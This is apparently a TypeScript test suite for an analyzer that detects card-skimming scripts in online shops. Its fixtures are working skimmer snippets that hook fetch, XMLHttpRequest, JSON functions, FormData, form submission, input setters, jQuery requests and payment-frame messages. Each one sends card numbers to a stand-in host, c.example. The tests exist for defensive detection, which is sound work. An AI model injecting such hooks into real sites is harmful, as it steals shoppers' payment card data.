import assert from 'node:assert/strict';
import { summarise } from '../../../analyzer/emulator/index.ts';
import { eventsOf, flowsOf, requestsOf, run } from './sandbox-of-tests.ts';

const leak = "new Image().src = 'https://c.example/p?d=' + encodeURIComponent";

/** What listens in on the shop's own requests, and what it does with them. */
const listeners: Readonly<Record<string, string>> = {
  'fetch, looking for a field in JSON': `
    var real = fetch; window.fetch = function (u, o) {
      if (o && typeof o.body === 'string' && /"number":"\\d/.test(o.body)) navigator.sendBeacon('https://c.example/p', o.body);
      return real.apply(this, arguments) };`,
  'fetch, given a Request': `
    var real = fetch; window.fetch = function (r) {
      if (r instanceof Request) r.clone().text().then(function (t) { ${leak}(t) });
      return real.apply(this, arguments) };`,
  'XMLHttpRequest, looking for a form': `
    var send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) {
      if (/^payment\\[cc_number/.test(b)) ${leak}(b); return send.apply(this, arguments) };`,
  'a class of requests of its own': `
    var X = window.XMLHttpRequest; window.XMLHttpRequest = function () {
      var x = new X(), send = x.send; x.send = function (b) { ${leak}(b); return send.call(x, b) }; return x };`,
  'JSON.stringify': `
    var s = JSON.stringify; JSON.stringify = function (v) {
      var t = s.apply(this, arguments); if (v && v.card && v.card.number) ${leak}(btoa(t)); return t };`,
  'JSON.parse': `
    var p = JSON.parse; JSON.parse = function (t) { if (/cvv/.test(t)) ${leak}(t); return p.apply(this, arguments) };`,
  FormData: `
    var a = FormData.prototype.append; FormData.prototype.append = function (k, v) {
      if (/cc_n/.test(k)) ${leak}(v); return a.apply(this, arguments) };`,
  "the form's submit": `
    var s = HTMLFormElement.prototype.submit; HTMLFormElement.prototype.submit = function () {
      ${leak}(new URLSearchParams(new FormData(this)).toString()); return s.call(this) };`,
  "a field's value being written": `
    var d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: d.get, configurable: true,
      set: function (v) { if (v.length > 12) ${leak}(v); return d.set.call(this, v) } });`,
  addEventListener: `
    var add = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (t, f, o) {
      return add.call(this, t, t === 'submit' ? function (e) { ${leak}(e.target.elements.cc_number ? e.target.elements.cc_number.value : document.querySelector('#cc_number').value); return f.call(this, e) } : f, o) };`,
  "jQuery's requests": `
    jQuery(document).ajaxSend(function (e, x, s) { if (/cardnumber/.test(s.data)) ${leak}(s.data) });`,
  'a prefilter of jQuery': `$.ajaxPrefilter(function (s) { if (s.data) ${leak}(s.data) });`,
  sendBeacon: `
    var b = navigator.sendBeacon; navigator.sendBeacon = function (u, d) { ${leak}(d); return b.apply(this, arguments) };`,
};

describe('emulator: the shop at work', () => {
  for (const [what, script] of Object.entries(listeners)) {
    it(`shows what is caught by ${what}`, async () => {
      const flows = await flowsOf(script);
      assert.ok(
        flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'),
        JSON.stringify(flows),
      );
    });
  }

  it('shows a hook that was put in place only later', async () => {
    const trace = await run(
      `addEventListener('load', function () { var f = fetch; window.fetch = function (u, o) { ${leak}(o.body); return f.apply(this, arguments) } })`,
    );
    assert.deepEqual(summarise(trace).hooks, ['fetch']);
    assert.ok(summarise(trace).flows.some(({ field }) => field === 'card-number'));
  });

  it('proves by another shopper what a hook sends enciphered', async () => {
    const [flow] = await flowsOf(
      "$(document).ajaxSend(function (e, x, s) { new Image().src = 'https://c.example/p?' + CryptoJS.AES.encrypt(s.data, 'k') })",
    );
    assert.deepEqual([flow?.field, flow?.proof], ['card-number', 'dependence']);
  });

  it('keeps still where nothing was replaced', async () => {
    const trace = await run("document.addEventListener('click', function () { fetch('/ping') })");
    assert.deepEqual(eventsOf(trace, 'shop-request'), []);
  });

  it('finds no leak in an agent that measures requests', async () => {
    const trace = await run(`
      var real = fetch; window.fetch = function (u, o) { var t = Date.now();
        return real.apply(this, arguments).then(function (r) {
          navigator.sendBeacon('https://apm.example/v1', JSON.stringify({ u: String(u), ms: Date.now() - t, s: r.status, bytes: o && o.body ? o.body.length : 0 }));
          return r }) };`);
    assert.ok(requestsOf(trace).some(({ host }) => host === 'apm.example'));
    assert.deepEqual(summarise(trace).flows, []);
  });

  it('tells listeners what a payment frame says', async () => {
    const flows = await flowsOf(
      `addEventListener('message', function (e) { if (e.data.card) ${leak}(JSON.stringify(e.data)) })`,
    );
    assert.ok(flows.some(({ field }) => field === 'card-number'));
  });
});
